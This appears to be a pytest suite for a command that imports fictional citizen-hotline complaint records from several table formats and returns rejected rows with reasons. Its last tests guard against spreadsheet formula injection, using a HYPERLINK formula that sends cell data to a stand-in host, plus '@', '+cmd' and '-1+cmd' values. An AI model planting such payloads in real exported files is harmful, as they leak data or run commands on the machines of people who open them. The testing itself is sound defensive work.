"""Good rows go in; the others come back as they were, each with its reason. Names are made up."""

import argparse
import csv
import json
import stat
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pytest
import python_calamine
import redis
import xlsxwriter

from hotline.commands import import_
from hotline.commands.launch.services import Services
from hotline.commands.launch.words import Trouble
from hotline.database import row, rows
from hotline.rules.import_rows import cell_text

HEADINGS = [
    "序号", "办件编号", "办件来源", "市级编号", "诉求主题", "诉求内容", "办理单位", "办理科室",
    "诉求人", "诉求人电话", "处理结果", "事项大类", "事项小类", "派发时间", "承诺完成时间",
    "办件状态", "派单员", "预警状态",
]  # fmt: skip
GOOD = {
    "序号": "1",
    "办件编号": "X-001",
    "诉求主题": "夜间气味",
    "诉求内容": "都匀市小围寨街道某砖厂（虚构）每晚排放刺鼻气味。",
    "诉求人": "张某某（虚构）",
    "诉求人电话": "13800000000",
    "派发时间": "2024年3月5日 14:30",
}
AT = ("--jurisdiction", "522700", "--source", "export")


Importer = Callable[..., Awaitable["Done"]]


@dataclass(frozen=True)
class Done:
    """What an import printed, and the file of rows that came back."""

    code: int
    out: str
    err: str

    @property
    def back(self) -> Path:
        return Path(self.out.strip().rpartition(": ")[2])


@pytest.fixture
def imports(db: Services, queues: "redis.Redis", capsys: pytest.CaptureFixture[str]) -> Importer:
    """The command, in this process and on a clean service."""
    del db, queues

    async def run(file: Path, *more: str) -> Done:
        parser = argparse.ArgumentParser()
        import_.add_arguments(parser)
        args = parser.parse_args([str(file), *AT, *more])
        code = await import_.imported(args, import_.opened_table(args))
        return Done(code, *capsys.readouterr())

    return run


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
async def test_a_line_export_is_read_in_whatever_encoding(
    imports: Importer, tmp_path: Path, encoding: str
) -> None:
    file = _table(tmp_path / "export.csv", [GOOD], encoding)
    done = await imports(file)

    assert "mapping: 12345" in done.err
    assert "good 1," in done.out
    request = await row("SELECT * FROM service_request")
    assert request is not None
    assert (request["channel"], request["foreign_number"]) == ("12345", "X-001")
    assert request["sender_index"]
    assert not request["historical"]
    assert request["partner_received_at"] == datetime.fromisoformat("2024-03-05T14:30:00+08:00")


async def test_bad_rows_come_back_with_their_reasons(imports: Importer, tmp_path: Path) -> None:
    bad = [
        {**GOOD, "办件编号": "X-002", "诉求内容": ""},
        {**GOOD, "办件编号": "X-003", "派发时间": "?"},
    ]
    file = _table(tmp_path / "export.csv", [GOOD, *bad])
    done = await imports(file)

    assert done.code == 3
    back = done.back
    assert back.parent == tmp_path
    assert stat.S_IMODE(back.stat().st_mode) == 0o600
    with back.open(encoding="utf-8-sig", newline="") as opened:
        returned = list(csv.DictReader(opened))
    assert [one["办件编号"] for one in returned] == ["X-002", "X-003"]
    assert "第 3 行：请写明反映的内容" in returned[0]["原因"]
    assert "时间格式不认识" in returned[1]["原因"]


async def test_mended_rows_go_in_from_the_file_that_came_back(
    imports: Importer, tmp_path: Path
) -> None:
    file = _table(tmp_path / "export.csv", [GOOD, {**GOOD, "办件编号": "X-002", "诉求内容": "臭"}])
    back = (await imports(file)).back
    mended = back.read_text("utf-8-sig").replace("臭,", "每天晚上都有臭味,")
    back.write_text(mended, "utf-8")

    assert "good 1," in (await imports(back)).out
    assert len(await rows("SELECT id FROM service_request")) == 2


async def test_another_text_under_a_known_number_is_given_back(
    imports: Importer, tmp_path: Path
) -> None:
    await imports(_table(tmp_path / "a.csv", [GOOD]))
    other = {**GOOD, "诉求内容": "同一个编号下的另一件事情，路灯不亮。"}
    done = await imports(_table(tmp_path / "b.csv", [other]))

    assert "known 1," in done.out
    assert "内容不同" in done.back.read_text("utf-8-sig")


async def test_a_spreadsheet_goes_in_and_comes_back_as_one(
    imports: Importer, tmp_path: Path
) -> None:
    file = tmp_path / "export.xlsx"
    with xlsxwriter.Workbook(file, {"default_date_format": "yyyy-mm-dd hh:mm"}) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "某市办件导出（虚构）")  # a title above the headings
        sheet.write_row(1, 0, HEADINGS)
        for place, number in enumerate(("X-001", "X-002"), start=2):
            line = {**GOOD, "办件编号": number, "诉求内容": "" if place == 3 else GOOD["诉求内容"]}
            sheet.write_row(place, 0, [line.get(name, "") for name in HEADINGS])
            sheet.write_datetime(place, HEADINGS.index("派发时间"), datetime(2024, 3, 5, 14, 30))
            sheet.write_number(place, HEADINGS.index("诉求人电话"), 13800000000)
    done = await imports(file)

    assert "good 1," in done.out
    back = python_calamine.CalamineWorkbook.from_path(done.back).get_sheet_by_index(0)
    header, line = back.to_python()
    assert dict(zip(header, line, strict=True))["办件编号"] == "X-002"
    request = await row("SELECT sender_index, partner_received_at FROM service_request")
    assert request is not None
    assert request["sender_index"]
    assert request["partner_received_at"] == datetime.fromisoformat("2024-03-05T14:30:00+08:00")


async def test_lines_that_are_no_objects_come_back_as_they_were(
    imports: Importer, tmp_path: Path
) -> None:
    file = tmp_path / "messages.jsonl"
    good = {"id": 1, "time": "2024-03-05 14:30:00", "title": "气味", "body": "晚上气味刺鼻"}
    lines = [json.dumps(good).encode(), b"[1, 2]", b"{broken", b'{"body": "\xff\xfe"}', b""]
    file.write_bytes(b"\n".join(lines))
    done = await imports(file)

    assert "rows 4, 新增 / good 1, 已有 / known 0, 退回 / bad 3" in done.out
    back = done.back.read_text("utf-8").splitlines()
    assert [json.loads(line)["原文"] for line in back[:2]] == ["[1, 2]", "{broken"]


async def test_the_operators_own_mapping_reads_an_odd_table(
    imports: Importer, tmp_path: Path
) -> None:
    mapping = tmp_path / "odd.toml"
    mapping.write_text(
        'times = ["%d.%m.%Y"]\n[columns]\nnumber = "Nr"\ntime = "Tag"\ntext = "Was"\nwish = "Art"\n'
        '[words.wish]\nBitte = "help"\n',
        "utf-8",
    )
    file = tmp_path / "odd.csv"
    file.write_text(
        "Nr;Tag;Was;Art\n7;05.03.2024;晚上气味刺鼻;Bitte\n8;05.03.2024;晚上气味;?\n", "utf-8"
    )
    done = await imports(file, "--mapping", str(mapping))

    assert "good 1, 已有 / known 0, 退回 / bad 1" in done.out
    request = await row("SELECT wish, foreign_number FROM service_request")
    assert request == {"wish": "help", "foreign_number": "7"}


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("nothing.csv", b"", "列映射"),
        ("odd.csv", b"a,b,c\n1,2,3\n", "列映射"),
        ("sheet.xlsx", b"PK\x03\x04 no sheet at all", "无法读取"),
        ("missing.csv", None, "无法读取"),
    ],
)
async def test_a_file_that_is_no_table_is_refused_in_one_line(
    imports: Importer, tmp_path: Path, name: str, content: bytes | None, words: str
) -> None:
    file = tmp_path / name
    if content is not None:
        file.write_bytes(content)
    with pytest.raises(Trouble, match=words) as refused:
        await imports(file)

    assert "\n" not in str(refused.value)


def _table(file: Path, lines: list[dict[str, str]], encoding: str = "utf-8") -> Path:
    with file.open("w", encoding=encoding, newline="") as opened:
        writer = csv.DictWriter(opened, HEADINGS)
        writer.writeheader()
        writer.writerows(lines)
    return file


async def test_no_word_of_a_reporter_is_a_formula_in_the_file_that_comes_back(
    imports: Importer, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://made.up/?"&A1,"看")'
    names = {"诉求人": "@SUM(1)", "诉求人电话": "+8613800000000", "诉求内容": ""}
    done = await imports(_table(tmp_path / "a.csv", [{**GOOD, **names, "诉求主题": hostile}]))

    (line,) = list(csv.DictReader(done.back.read_text("utf-8-sig").splitlines()))
    cells = [cell for name, cell in line.items() if name != "原因"]
    assert not any(cell.startswith(("=", "@")) for cell in cells)
    assert "+8613800000000" in cells


@pytest.mark.parametrize("cell", ["=1+1", "@SUM(1)", "+cmd", "-1+cmd"])
def test_what_was_marked_is_read_without_the_mark(cell: str) -> None:
    assert cell_text(f"'{cell}") == cell
    assert cell_text(f"'引号'{cell}") == f"'引号'{cell}"
